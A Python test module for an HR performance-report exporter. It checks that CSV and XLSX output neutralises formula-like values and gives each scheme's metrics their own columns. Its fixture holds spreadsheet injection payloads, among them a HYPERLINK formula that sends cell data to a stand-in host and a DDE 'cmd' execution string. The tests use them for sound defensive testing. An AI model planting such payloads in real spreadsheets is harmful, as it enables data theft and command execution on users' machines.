"""Exports HR opens in a spreadsheet: ids and notes from users' files never run as formulas."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

from qa_service.config import DEFAULT_RULES_DIR
from qa_service.period import parse_period
from qa_service.performance.export import to_csv, to_xlsx
from qa_service.rules.scheme import load_schemes

HOSTILE = {"agent_id": "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "team": "@SUM(A1)",
           "notes": ["-2+3", "+cmd|' /C calc'!A0"]}


def _row(**fields) -> dict:
    row = {"rank": 1, "agent_id": "a1", "team": "t1", "scheme": None, "total": 88.5, "grade": "B",
           "quantitative": -3.0, "qualitative": None, "items": [], "qa_score_mean": 80.0, "qa_score_adjusted": 79.0,
           "qa_n": 12, "qa_ci95": None, "team_size": 3, "metrics": {}, "notes": [], "period": "2026-10"}
    return {**row, **fields}


def test_csv_cells_that_look_like_formulas_open_as_text():
    text = to_csv([_row(**HOSTILE), _row(agent_id="a2")])
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0]["agent_id"] == "'" + HOSTILE["agent_id"] and rows[0]["team"] == "'@SUM(A1)"
    assert rows[0]["notes"] == "'-2+3; +cmd|' /C calc'!A0"
    assert rows[0]["quantitative"] == "-3.0"  # a number stays a number
    assert rows[1]["agent_id"] == "a2"


def test_xlsx_cells_that_look_like_formulas_are_strings():
    data = to_xlsx([_row(**HOSTILE)], parse_period("2026-10"), {})
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any("<f>" in z.read(n).decode() for n in sheets)  # no formula anywhere
    book = load_workbook(io.BytesIO(data))
    summary = book["汇总"]
    cells = {c.value: c.data_type for c in summary[2]}
    assert cells[HOSTILE["agent_id"]] == "s" and cells["@SUM(A1)"] == "s" and cells[-3.0] == "n"


def test_an_item_id_two_schemes_use_for_different_metrics_gets_a_column_each():
    def item(metric, label, value):
        return {"id": "resolution", "label": label, "metric": metric, "value": value, "attainment": None,
                "points": 80.0}

    rows = [_row(agent_id="a1", scheme="after_sales", items=[item("fcr", "一次解决率", 0.8)]),
            _row(agent_id="a2", scheme="recontact", items=[item("recontact_rate", "重复来电率", 0.1)])]
    [a1, a2] = csv.DictReader(io.StringIO(to_csv(rows).lstrip("\ufeff")))
    assert (a1["resolution.value"], a1["recontact.resolution.value"]) == ("0.8", "")
    assert (a2["resolution.value"], a2["recontact.resolution.value"]) == ("", "0.1")
    shipped = load_schemes(DEFAULT_RULES_DIR / "appraisal")["after_sales"]  # for the 说明 sheet only
    xlsx = to_xlsx(rows, parse_period("2026-10"), {"after_sales": shipped, "recontact": shipped})
    sheet = load_workbook(io.BytesIO(xlsx))["汇总"]
    headers = [c.value for c in sheet[1]]
    assert "一次解决率" in headers and "重复来电率（recontact）" in headers
    col = headers.index("重复来电率（recontact）")
    assert [r[col].value for r in sheet.iter_rows(min_row=2)] == [None, 0.1]
